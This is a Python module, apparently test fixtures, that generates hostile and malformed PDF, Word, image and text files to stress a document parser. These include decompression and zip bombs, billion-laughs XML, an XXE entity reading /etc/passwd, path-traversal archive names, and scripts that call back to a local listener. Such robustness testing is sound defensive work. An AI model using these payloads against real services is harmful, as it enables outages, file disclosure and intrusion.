"""Files that were made to hurt a reader, or that are merely odd: each by its name."""

import io
import random
import string
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image, ImageDraw

PORT = 9  # replaced by the tests' own listener


def pdf(*objects: bytes, root: int = 1, trailer: bytes = b"", table: bool = True) -> bytes:
    """A PDF of the given objects, numbered from 1, with a right table."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    if table:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Root %d 0 R/Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        root, len(objects) + 1, trailer, start,
    )  # fmt: skip
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(data), data)


_ROOT, _PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_FONT = b"/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"


def page(content: bytes, *more: bytes, box: bytes = b"0 0 595 842", resources: bytes = _FONT, entries: bytes = b"", catalog: bytes = _ROOT) -> bytes:  # fmt: skip
    """A PDF of one page with that content; further objects begin at 5."""
    own = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<<%s>>%s>>" % (
        box, resources, entries,
    )  # fmt: skip
    return pdf(catalog, _PAGES, own, content, *more)


def _deep_flate(times: int, size: int) -> bytes:
    data = b" " * size
    for _ in range(times):
        data = zlib.compress(data, 9)
    return page(stream(data, b"/Filter[" + b"/FlateDecode" * times + b"]"))


def _nested_forms(wide: int, deep: int) -> bytes:
    call = b"/X Do " * wide
    forms = []
    for number in range(deep):
        inner = b"/XObject<</X %d 0 R>>" % (6 + number) if number + 1 < deep else _FONT
        content = call if number + 1 < deep else b"BT /F 9 Tf (x) Tj ET"
        forms.append(
            stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<<%s>>" % inner)
        )
    return page(stream(call), *forms, resources=b"/XObject<</X 5 0 R>>")


def _own_form() -> bytes:
    form = stream(
        b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"
    )
    return page(stream(b"/X Do"), form, resources=b"/XObject<</X 5 0 R>>")


def _pattern() -> bytes:
    tile = stream(
        b"/Pattern cs /P scn 0 0 1 1 re f",
        b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.001/YStep 0.001/Resources<</Pattern<</P 5 0 R>>>>",
    )
    return page(
        stream(b"/Pattern cs /P scn 0 0 595 842 re f"), tile, resources=b"/Pattern<</P 5 0 R>>"
    )


def _image(width: int, height: int, entries: bytes, data: bytes) -> bytes:
    one = stream(
        data, b"/Type/XObject/Subtype/Image/Width %d/Height %d%s" % (width, height, entries)
    )
    return page(stream(b"q 595 0 0 842 0 0 cm /I Do Q"), one, resources=b"/XObject<</I 5 0 R>>")


def _bitmap(side: int) -> bytes:
    raw = zlib.compress(b"\0" * (side * side // 8), 9)
    return _image(side, side, b"/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/FlateDecode", raw)


def _many_pages(count: int) -> bytes:
    kids = b"3 0 R " * count
    own = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>"
    return pdf(_ROOT, b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count), own)


def _deep_pages(deep: int) -> bytes:
    nodes = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (3 + n) for n in range(deep)]
    return pdf(_ROOT, *nodes, b"<</Type/Page/MediaBox[0 0 99 99]>>")


def _fonts(count: int) -> bytes:
    names = b"".join(
        b"/F%d<</Type/Font/Subtype/TrueType/BaseFont/A%d/FirstChar 0/LastChar 255>>" % (n, n)
        for n in range(count)
    )
    content = b"BT " + b"".join(b"/F%d 9 Tf (abc) Tj " % n for n in range(count)) + b"ET"
    return page(stream(content), resources=b"/Font<<%s>>" % names)


def _type3() -> bytes:
    glyph = stream(b"9 0 d0 BT /F 9 Tf (aaaa) Tj ET")
    font = b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/CharProcs<</a 5 0 R>>/Resources<</Font<</F 6 0 R>>>>>>"
    return page(stream(b"BT /F 9 Tf (aaaa) Tj ET"), glyph, font, resources=b"/Font<</F 6 0 R>>")


def _shading() -> bytes:
    program = stream(
        b"{ " + b"dup mul " * 20_000 + b"}", b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1]"
    )
    shade = b"<</ShadingType 1/ColorSpace/DeviceGray/Function 5 0 R/Domain[0 1 0 1]/Matrix[595 0 0 842 0 0]>>"
    return page(stream(b"/S sh"), program, shade, resources=b"/Shading<</S 6 0 R>>")


def _outlines() -> bytes:
    root = b"<</Type/Catalog/Pages 2 0 R/Outlines 5 0 R>>"
    return page(stream(b""), b"<</First 6 0 R/Last 6 0 R>>", b"<</Title(a)/Next 6 0 R/First 5 0 R>>", catalog=root)  # fmt: skip


def _reaching_out() -> bytes:
    far = b"http://127.0.0.1:%d/" % PORT
    root = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('%s'\\);this.submitForm\\('%s'\\))>>>>" % (far, far)  # fmt: skip
    action = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(%s)>>>>]/AA<</O<</S/SubmitForm/F(%s)>>>>" % (far, far)  # fmt: skip
    one = stream(b"", b"/Type/XObject/Subtype/Image/Width 9/Height 9/F<</FS/URL/F(%s)>>/FFilter/DCTDecode" % far)  # fmt: skip
    return page(stream(b"q 595 0 0 842 0 0 cm /I Do Q"), one, resources=b"/XObject<</I 5 0 R>>", entries=action, catalog=root)  # fmt: skip


def _annotations(count: int) -> bytes:
    notes = b"".join(
        b"<</Type/Annot/Subtype/FreeText/Rect[0 0 99 99]/Contents(abc)/DA(/F 9 Tf)/AP<</N 5 0 R>>>>"
        for _ in range(count)
    )
    form = stream(b"BT /F 9 Tf (abc) Tj ET", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<<%s>>" % _FONT)  # fmt: skip
    return page(stream(b""), form, entries=b"/Annots[%s]" % notes)


def _paths(count: int) -> bytes:
    return page(stream(zlib.compress(b"0 0 m 9 9 l S\n" * count), b"/Filter/FlateDecode"))


def _hidden_loops() -> bytes:
    """Object streams and lengths that name themselves."""
    return page(b"<</Length 4 0 R>>stream\nBT ET\nendstream")


def _two_tables() -> bytes:
    good = page(stream(b"BT /F 9 Tf (abc) Tj ET"))
    at = good.index(b"xref")
    return good.replace(b"trailer<<", b"trailer<</Prev %d" % at)


PDFS: dict[str, Callable[[], bytes]] = {
    "filters in filters": lambda: _deep_flate(6, 200_000_000),
    "a thousand filters": lambda: page(stream(b"x", b"/Filter[" + b"/ASCIIHexDecode" * 1000 + b"]")),
    "run-length bomb": lambda: page(stream(b"\x81 " * 5_000_000, b"/Filter/RunLengthDecode")),
    "lzw": lambda: page(stream(b"\x80\x0b" * 500_000, b"/Filter/LZWDecode")),
    "forms in forms": lambda: _nested_forms(20, 12),
    "form in itself": _own_form,
    "pattern in itself": _pattern,
    "picture of a billion dots": lambda: _bitmap(32_000),
    "picture too wide": lambda: _image(2_000_000_000, 2, b"/ColorSpace/DeviceRGB/BitsPerComponent 8", b"x"),
    "jbig2 rubbish": lambda: _image(2000, 2000, b"/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode", b"\0\0\0\0" + b"\x30\0\1\0\0\0\x13" * 99),
    "jpx rubbish": lambda: _image(2000, 2000, b"/Filter/JPXDecode", b"\0\0\0\x0cjP  \r\n\x87\n" + b"\xff\x4f\xff\x51" * 99),
    "ccitt endless": lambda: _image(60_000, 60_000, b"/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 60000>>", b"\xff" * 99),
    "soft mask of itself": lambda: _image(9, 9, b"/ColorSpace/DeviceGray/BitsPerComponent 8/SMask 5 0 R", b"x" * 81),
    "colours in colours": lambda: _image(9, 9, b"/ColorSpace[/Indexed" * 500 + b"/DeviceRGB 1(abcdef)]" + b" 1(ab)]" * 499 + b"/BitsPerComponent 8", b"x" * 81),
    "huge box": lambda: page(stream(b"BT /F 9 Tf (abc) Tj ET"), box=b"0 0 100000000 100000000"),
    "box without size": lambda: page(stream(b"BT /F 9 Tf (abc) Tj ET"), box=b"0 0 0 0"),
    "box of no number": lambda: page(stream(b"BT /F 9 Tf (abc) Tj ET"), box=b"-1e400 /a null 9"),
    "turned by 17": lambda: page(stream(b"BT /F 9 Tf (abc) Tj ET"), entries=b"/Rotate 17"),
    "turned by much": lambda: page(stream(b"BT /F 9 Tf (abc) Tj ET"), entries=b"/Rotate -99999990"),
    "pages in a circle": lambda: pdf(_ROOT, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"),
    "a million pages": lambda: _many_pages(1_000_000),
    "count that lies": lambda: pdf(_ROOT, b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
    "negative count": lambda: pdf(_ROOT, b"<</Type/Pages/Kids[3 0 R]/Count -5>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
    "tree of pages without end": lambda: _deep_pages(50_000),
    "fonts by the thousand": lambda: _fonts(20_000),
    "glyph in itself": _type3,
    "shading by a program": _shading,
    "outlines in a circle": _outlines,
    "reaching out": _reaching_out,
    "ten thousand notes": lambda: _annotations(10_000),
    "a million lines": lambda: _paths(1_000_000),
    "length of itself": _hidden_loops,
    "table before itself": _two_tables,
    "table that lies": lambda: page(stream(b"")).replace(b"xref\n0 5", b"xref\n0 4294967295"),
    "brackets": lambda: pdf(b"[" * 200_000),
    "dictionaries": lambda: pdf(b"<</A" * 100_000),
    "content of brackets": lambda: page(stream(b"[" * 1_000_000)),
    "states kept": lambda: page(stream(b"q " * 1_000_000)),
    "words in one line": lambda: page(stream(b"BT /F 9 Tf 1 0 0 1 9 9 Tm " + b"(abc def) Tj " * 300_000 + b"ET")),
    "letters on one spot": lambda: page(stream(b"BT /F 0.0001 Tf " + b"(a) Tj " * 300_000 + b"ET")),
    "letters of no size": lambda: page(stream(b"BT /F 0 Tf 0 0 0 0 0 0 Tm " + b"(abc def ghi) Tj " * 200 + b"ET")),
    "letters far away": lambda: page(stream(b"BT /F 9e30 Tf 1e30 0 0 1e30 1e38 -1e38 Tm " + b"(abc def) Tj " * 99 + b"ET")),
    "cipher unknown": lambda: page(stream(b"")).replace(b"/Size", b"/Encrypt<</Filter/Odd/V 99>>/Size"),
    "head late": lambda: b"\n" * 1000 + page(stream(b"")),
    "cut in the middle": lambda: page(stream(b"BT /F 9 Tf (abc) Tj ET" * 99))[:700],
    "two files in one": lambda: page(stream(b"")) + b"PK\x03\x04" + b"MZ" + page(stream(b"")),
}  # fmt: skip


def archive(members: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as package:
        for name, data in members.items():
            package.writestr(name, data)
    return out.getvalue()


_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
_RELS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_SAID = b"<w:p><w:r><w:t>Giao cho ai</w:t></w:r></w:p>"


def word(body: bytes, head: bytes = b'<?xml version="1.0"?>', **more: bytes) -> bytes:
    """A Word file with that body; `more` are further parts, `__` for a slash and `_` for a full stop."""
    document = head + b"<w:document %s><w:body>%s</w:body></w:document>" % (_W, body)
    members = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _RELS,
        "word/document.xml": document,
    }
    return archive(
        members | {n.replace("__", "/").replace("_dot_", "."): d for n, d in more.items()}
    )


def _outside() -> bytes:
    far = b"http://127.0.0.1:%d/" % PORT
    rels = _RELS.replace(b'Target="word/document.xml"', b'Target="%s" TargetMode="External"' % far)
    rels = rels.replace(b"officeDocument/2006/relationships/officeDocument", b"officeDocument/2006/relationships/attachedTemplate")  # fmt: skip
    return word(
        _SAID + b'<w:altChunk r:id="rId1"/><w:subDoc r:id="rId1"/>',
        word___rels__document_dot_xml_dot_rels=rels,
    )


def _entity(what: bytes) -> bytes:
    head = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "%s">]>' % what
    return word(_SAID + b"<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", head)


def _laughs() -> bytes:
    names = b"".join(
        b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10 if n else b"ha") for n in range(12)
    )
    return word(b"<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>", b'<?xml version="1.0"?><!DOCTYPE d [%s]>' % names)  # fmt: skip


def _overlap(count: int) -> bytes:
    """Many entries of one directory that point at the same packed bytes."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    plain = b" " * 20_000_000
    data = packed.compress(plain) + packed.flush()
    name, crc = b"word/document.xml", zlib.crc32(plain)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(data), len(plain), len(name), 0)  # fmt: skip
    out = local + name + data
    entries = b""
    for number in range(count):
        own = name if number == 0 else b"word/%05d.xml" % number
        entries += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(data), len(plain), len(own), 0, 0, 0, 0, 0, 0) + own  # fmt: skip
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(entries), len(out), 0)
    return out + entries + end


def _table(rows: int, columns: int) -> bytes:
    cell = b"<w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>"
    return word(b"<w:tbl>" + (b"<w:tr>" + cell * columns + b"</w:tr>") * rows + b"</w:tbl>")


def _spans() -> bytes:
    cell = b'<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>'
    return word(b"<w:tbl><w:tblGrid/><w:tr>" + cell * 3 + b"</w:tr></w:tbl>" + _SAID)


def _nested_tables(deep: int) -> bytes:
    return word(
        b"<w:tbl><w:tr><w:tc>" * deep + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * deep + _SAID
    )


def _merged(rows: int) -> bytes:
    cell = b"<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>"
    return word(b"<w:tbl>" + (b"<w:tr>" + cell + b"</w:tr>") * rows + b"</w:tbl>")


def _numbering() -> bytes:
    shape = b'<w:numbering %s><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="99999999999"><w:start w:val="x"/></w:lvl></w:abstractNum></w:numbering>' % _W  # fmt: skip
    rels = _RELS.replace(
        b'/officeDocument" Target="word/document.xml', b'/numbering" Target="numbering.xml'
    )
    return word(_SAID, word__numbering_dot_xml=shape, word___rels__document_dot_xml_dot_rels=rels)


OFFICE: dict[str, Callable[[], bytes]] = {
    "deep xml": lambda: word(b"<w:p>" * 100_000 + b"</w:p>" * 100_000),
    "million laughs": _laughs,
    "entity of a file": lambda: _entity(b"file:///etc/passwd"),
    "entity of the network": lambda: _entity(b"http://127.0.0.1:%d/" % PORT),
    "relations outside": _outside,
    "entries on the same bytes": lambda: _overlap(50),
    "huge table": lambda: _table(3000, 60),
    "cells that span a billion": _spans,
    "tables in tables": lambda: _nested_tables(400),
    "cells merged down": lambda: _merged(6000),
    "numbers of no level": _numbering,
    "object inside": lambda: word(_SAID, word__embeddings__oleObject1_dot_bin=b"\xd0\xcf\x11\xe0" * 9999),
    "long attribute": lambda: word(b'<w:p w:x="' + b"a" * 20_000_000 + b'"/>' + _SAID),
    "a million paragraphs": lambda: word(_SAID * 300_000),
    "no document": lambda: archive({"[Content_Types].xml": _TYPES, "word/document.xml": b""}),
    "names that climb": lambda: archive({"../../../../tmp/x": b"x", "word/document.xml": b"<a/>", "/etc/passwd": b""}),
    "xlsx": lambda: archive({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<a/>"}),
    "odt": lambda: archive({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}, zipfile.ZIP_STORED),
    "rtf": lambda: b"{\\rtf1\\ansi Giao S\\u7903? N\\u7897?i v\\u7909?\\par}" + b"{" * 99999,
    "doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 24 + b"\x3e\0\3\0\xfe\xff\x09\0" + b"\xff" * 4096,
    "zip of 70000 names": lambda: archive({f"{n}": b"" for n in range(70_000)}, zipfile.ZIP_STORED),
}  # fmt: skip


def _saved(image: Image.Image, kind: str, **more: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **more)
    return out.getvalue()


def _frames(kind: str, count: int) -> bytes:
    frames = [Image.new("L", (8, 8), n % 256) for n in range(count)]
    return _saved(frames[0], kind, save_all=True, append_images=frames[1:])


def _png(width: int, height: int) -> bytes:
    """A picture whose head promises more than its body has."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    out = b"\x89PNG\r\n\x1a\n"
    for name, data in ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 99)), (b"IEND", b"")):
        out += (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )
    return out


def _text_chunks() -> bytes:
    bomb = zlib.compress(b"a" * 60_000_000, 9)
    good = _png(9, 9)
    data = b"a\0\0" + bomb
    chunk = (
        struct.pack(">I", len(data))
        + b"zTXt"
        + data
        + struct.pack(">I", zlib.crc32(b"zTXt" + data))
    )
    return good[:33] + chunk + good[33:]


def _tiff_circle() -> bytes:
    """A directory of a TIFF that names itself as the next one."""
    entry = struct.pack("<HHII", 256, 4, 1, 9)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 1) + entry + struct.pack("<I", 8)


IMAGES: dict[str, Callable[[], bytes]] = {
    "promises a billion dots": lambda: _png(60_000, 60_000),
    "promises 59 million dots": lambda: _png(7600, 7700),
    "text in a chunk": _text_chunks,
    "png cut": lambda: _saved(Image.effect_noise((900, 900), 99), "PNG")[:9000],
    "jpeg cut": lambda: _saved(Image.effect_noise((900, 900), 99), "JPEG")[:9000],
    "one dot": lambda: _saved(Image.new("L", (1, 1)), "PNG"),
    "one line": lambda: _saved(Image.new("L", (30_000, 1)), "PNG"),
    "one column": lambda: _saved(Image.new("L", (1, 30_000)), "PNG"),
    "sixteen bits": lambda: _saved(Image.new("I;16", (300, 300), 999), "PNG"),
    "floats": lambda: _saved(Image.new("F", (300, 300), 0.5), "TIFF"),
    "palette with glass": lambda: _saved(Image.new("P", (99, 99)), "PNG", transparency=b"\0" * 9),
    "gif of many": lambda: _frames("GIF", 2000),
    "tiff of many": lambda: _frames("TIFF", 10_000),
    "webp of many": lambda: _frames("WEBP", 300),
    "tiff in a circle": _tiff_circle,
    "turned by nothing known": lambda: _saved(Image.new("L", (99, 99)), "JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\1\x01\x12\0\3\0\0\0\1\0\x63\0\0\0\0\0\0"),
    "bmp that lies": lambda: b"BM" + struct.pack("<IHHIIiiHHIIiiII", 99, 0, 0, 54, 40, 2**31 - 1, -(2**31) + 1, 1, 24, 0, 0, 0, 0, 0, 0),
    "heic": lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 99,
    "avif": lambda: b"\0\0\0\x18ftypavif\0\0\0\0mif1avif" + b"\0" * 99,
    "jpeg 2000": lambda: _saved(Image.new("RGB", (99, 99), "white"), "JPEG2000"),
    "svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:%d/a.png"/><script>fetch("http://127.0.0.1:%d/")</script></svg>' % (PORT, PORT),
    "psd": lambda: b"8BPS\0\1" + b"\0" * 6 + b"\0\3" + b"\x7f\xff\xff\xff" * 2 + b"\0\x08\0\3" + b"\0" * 99,
    "postscript": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run",
}  # fmt: skip

_SENTENCE = "Kính gửi: Sở Nội vụ\n\nGiao Sở Nội vụ rà soát hồ sơ của các cơ quan./.\n"


def _in_1258(text: str) -> bytes:
    """As Windows before Unicode wrote it: the tone behind its vowel."""
    out = ""
    for letter in text:
        base, tone = letter, ""
        for mark in "\u0300\u0301\u0303\u0309\u0323":
            apart = unicodedata.normalize("NFD", letter)
            if mark in apart:
                base, tone = unicodedata.normalize("NFC", apart.replace(mark, "")), mark
        out += base + tone
    return out.encode("cp1258")


TEXTS: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "a full stop": lambda: b".",
    "utf-16 with its mark": lambda: _SENTENCE.encode("utf-16"),
    "utf-16 cut": lambda: _SENTENCE.encode("utf-16")[:-1],
    "utf-16 without its mark": lambda: _SENTENCE.encode("utf-16-le"),
    "windows 1258": lambda: _in_1258(_SENTENCE),
    "nul among letters": lambda: ("\0" + _SENTENCE + "\0").encode(),
    "marks without end": lambda: ("a" + "\u0301" * 300_000).encode(),
    "right to left": lambda: ("\u202e" + _SENTENCE + "\u202d\ufeff").encode(),
    "one line of 5 MB": lambda: b"a" * 5_000_000,
    "lines of 5 MB": lambda: b"\n" * 5_000_000 + b"a",
    "feeds": lambda: b"\f" * 1_000_000 + b"a",
    "digits": lambda: b"So: " + b"9" * 1_000_000 + b"/UBND ngay 1 thang 1 nam 2020",
    "html": lambda: b"<html><script>fetch('http://127.0.0.1:%d/')</script>Giao ai</html>" % PORT,
    "xml": lambda: b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://127.0.0.1:%d/"><a/>' % PORT,
    "program": lambda: b"MZ\x90\0" + bytes(range(256)) * 40,
}  # fmt: skip

_A4 = (2480, 3508)  # at 300 dots an inch


def _page_of(image: Image.Image) -> bytes:
    return _saved(image, "PDF", resolution=300)


def _boxes(count: int) -> bytes:
    """A page of small frames, as a form without words."""
    sheet = Image.new("L", _A4, 255)
    draw = ImageDraw.Draw(sheet)
    for n in range(count):
        x, y = 20 + (n % 100) * 24, 20 + (n // 100) * 34
        draw.rectangle((x, y, x + 16, y + 24), outline=0, width=2)
    return _page_of(sheet)


def _frames_of_a_mark() -> bytes:
    """A page of frames that each could be a mark of secrecy."""
    sheet = Image.new("L", _A4, 255)
    draw = ImageDraw.Draw(sheet)
    for n in range(180):
        x, y = 40 + n % 6 * 400, 30 + n // 6 * 115
        draw.rectangle((x, y, x + 300, y + 90), outline=0, width=4)
        draw.text((x + 50, y + 30), f"WAT {n}", fill=0, font_size=40)
    return _page_of(sheet)


def _tiny_letters() -> bytes:
    """A page full of letters of three points that make no words."""
    rng = random.Random(1)
    sheet = Image.new("L", _A4, 255)
    draw = ImageDraw.Draw(sheet)
    for y in range(0, _A4[1], 14):
        draw.text(
            (0, y), "".join(rng.choices(string.ascii_letters + " ", k=600)), fill=0, font_size=13
        )
    return _page_of(sheet)


def _noise(red: bool) -> bytes:
    grains = Image.frombytes("L", _A4, random.Random(2).randbytes(_A4[0] * _A4[1]))
    return _page_of(
        Image.merge("RGB", (Image.new("L", _A4, 200), grains, grains)) if red else grains
    )


def _jbig2(side: int, regions: int) -> bytes:
    """A page of JBIG2 that promises so many dots, drawn over so often from next to nothing."""
    info = struct.pack(">IIIIBH", side, side, 0, 0, 0, 0)
    out = struct.pack(">IBBI", 0, 48, 1, len(info)) + info
    for n in range(regions):
        body = (
            struct.pack(">IIIIBB", side, side, 0, 0, 0, 0)
            + b"\3\xff\xfd\xff\2\xfe\xfe\xfe"
            + b"\0\0\xff\xac"
        )
        out += struct.pack(">IBBI", n + 1, 38, 1, len(body)) + body
    return _image(side, side, b"/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode", out)


def _jpx(side: int) -> bytes:
    """A page of JPEG 2000 of one shade: a few kilobytes that unpack to hundreds of megabytes."""
    data = _saved(
        Image.new("L", (side, side), 200), "JPEG2000", quality_mode="rates", quality_layers=[9000]
    )
    return _image(side, side, b"/Filter/JPXDecode", data)


PAGES: dict[str, Callable[[], bytes]] = {
    "noise": lambda: _noise(False),
    "red noise": lambda: _noise(True),
    "ten thousand boxes": lambda: _boxes(10_000),
    "frames of marks": _frames_of_a_mark,
    "tiny letters": _tiny_letters,
    "jbig2 of a billion dots": lambda: _jbig2(32_000, 1),
    "jbig2 drawn over": lambda: _jbig2(8000, 60),
    "jpx of 100 million dots": lambda: _jpx(10_000),
    "tiff of 100 million dots": lambda: _saved(Image.new("1", (10_000, 10_000)), "TIFF", compression="group4"),
    "jpeg of 100 million dots": lambda: _saved(Image.new("L", (10_000, 10_000), 250), "JPEG"),
}  # fmt: skip

ALL = {
    f"{kind}: {name}": make
    for kind, group in (
        ("pdf", PDFS),
        ("office", OFFICE),
        ("image", IMAGES),
        ("text", TEXTS),
        ("page", PAGES),
    )
    for name, make in group.items()
}
